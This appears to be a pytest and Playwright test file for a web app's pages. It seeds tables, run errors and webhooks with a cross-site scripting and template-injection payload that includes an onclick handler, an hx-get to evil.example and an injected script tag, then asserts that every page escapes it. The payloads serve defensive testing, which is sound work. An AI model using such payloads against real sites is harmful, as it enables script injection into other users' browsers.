"""Whatever a table, an error, a receiver or an operator is called or says, pages show it as text."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from typing import Any
from uuid import uuid4

import pytest
from playwright.sync_api import expect

from shared.adapters.secretbox import new_key
from tests.api.conftest import OPERATOR, Api, forget
from tests.web.conftest import Visit

TEXT = """'"><x-hostile onclick=pwned() hx-get=//evil.example>{{ 7 * 191 }}</script><script>pwned=1</script>"""
NAME = """a'"><x-hostile>{{7*191}}"""


class Tags(HTMLParser):
    """The tags of a page, and attributes that nobody of ours has written."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.hostile: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        wrong = [name for name, value in attributes if name.startswith("on") or name == "style"]
        away = [
            value for name, value in attributes if name in ("href", "src", "action", "hx-get") and _leads_away(value)
        ]
        if tag == "x-hostile" or wrong or away:
            self.hostile.append(f"<{tag} {attributes}>")


def _leads_away(value: str | None) -> bool:
    return value is not None and not (
        (value.startswith("/") and not value.startswith(("//", "/\\"))) or value[:1] in "?#"
    )


@pytest.fixture
def hostile(api: Api, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Everything that can be named or said is hostile; the ids that paths need."""
    monkeypatch.setenv("WEBHOOK_SECRET_KEY", new_key())
    forget()
    plane = api.plane
    plane.register("fine")
    plane.run(f"""CREATE TABLE public."{NAME.replace('"', '""')}" (id bigint PRIMARY KEY, value text)""")
    plane.run(
        "INSERT INTO refresh.refresh_table_registry (table_schema, table_name, handler, source, key_columns, mode)"
        " VALUES ('public', :name, 'generic', 'p.d.t', '{id}', 'shadow')",
        name=NAME,
    )
    run = plane.run("SELECT refresh.request_run(NULL, true) AS id")[0]["id"]
    plane.run("UPDATE refresh.refresh_run SET requested_by = :text WHERE run_id = :run", text=TEXT, run=run)
    plane.deliver(json.dumps({"version": 1, "kind": "manual", "run_id": str(run)}).encode())
    plane.run(
        "UPDATE refresh.refresh_task SET status = 'running', epoch = 1, attempt = 1, lease_until = now()"
        " WHERE run_id = :run",
        run=run,
    )
    plane.run(
        "UPDATE refresh.refresh_task SET status = 'failed', reason = :reason, error = :text WHERE run_id = :run",
        reason="<x-hostile>",
        text=TEXT,
        run=run,
    )
    plane.run(
        "INSERT INTO refresh.refresh_quarantine"
        " (run_id, table_schema, table_name, slice_no, reason, column_name, source_row)"
        " SELECT :run, 'public', name, 0, :text, :text, json_build_object(CAST(:text AS text), CAST(:text AS text))"
        " FROM unnest(ARRAY['fine', CAST(:name AS text)]) AS name",
        run=run,
        text=TEXT,
        name=NAME,
    )
    return {"run_id": str(run), "table": f"public.{NAME}"} | _hook(api)


def _hook(api: Api) -> dict[str, Any]:
    made = api(
        "POST", "/api/refresh/webhooks", json={"url": "https://hooks.example.com/a?%27%22%3E", "description": TEXT}
    ).get_json()
    delivery = api("POST", f"/api/refresh/webhooks/{made['endpoint_id']}/test").get_json()
    api.plane.run(
        "UPDATE refresh.webhook_delivery SET state = 'failed', next_attempt_at = NULL, response_status = 500,"
        " response_excerpt = :text, error = :text, attempt = 10",
        text=TEXT,
    )
    return {"endpoint_id": made["endpoint_id"], "delivery_id": delivery["delivery_id"]}


def _pages(api: Api, values: dict[str, Any]) -> list[str]:
    adapter = api.app.url_map.bind("localhost")
    given = {"dead_letter_id": 1, "what": "disable", "backfill_id": str(uuid4())} | values
    rules = [
        rule
        for rule in api.app.url_map.iter_rules()
        if rule.endpoint.startswith("pages.")
        and "GET" in (rule.methods or ())
        and rule.endpoint not in ("pages.assets.asset", "pages.sign_in.once")
    ]
    paths = [adapter.build(rule.endpoint, {name: given[name] for name in rule.arguments}) for rule in rules]
    return [
        *paths,
        *(f"{path}?q=%3Cx-hostile%3E&table=%27%22%3E%3Cx-hostile%3E&status=%22%3E%3Cx-hostile%3E" for path in paths),
    ]


def test_no_page_makes_markup_of_a_text(api: Api, hostile: dict[str, Any]) -> None:
    seen = 0
    for path in _pages(api, hostile):
        response = api("GET", path, headers={"Accept": "text/html"})
        assert response.status_code < 500, (path, response.text)
        if response.mimetype == "text/html":
            assert Tags(response.text).hostile == [], path
            assert str(7 * 191) not in response.text, path
            seen += "x-hostile" in response.text
    assert seen > 10, "the texts are there"


def test_in_a_browser_they_can_be_read_and_do_nothing(visit: Visit, hostile: dict[str, Any]) -> None:
    visitor = visit(token=OPERATOR)
    for path in (f"/runs/{hostile['run_id']}", f"/webhooks/{hostile['endpoint_id']}", "/audit", "/"):
        page = visitor.open(path)
        expect(page.locator("x-hostile")).to_have_count(0)
        expect(page.locator("main")).to_contain_text("x-hostile")
        assert page.evaluate("typeof pwned") == "undefined"
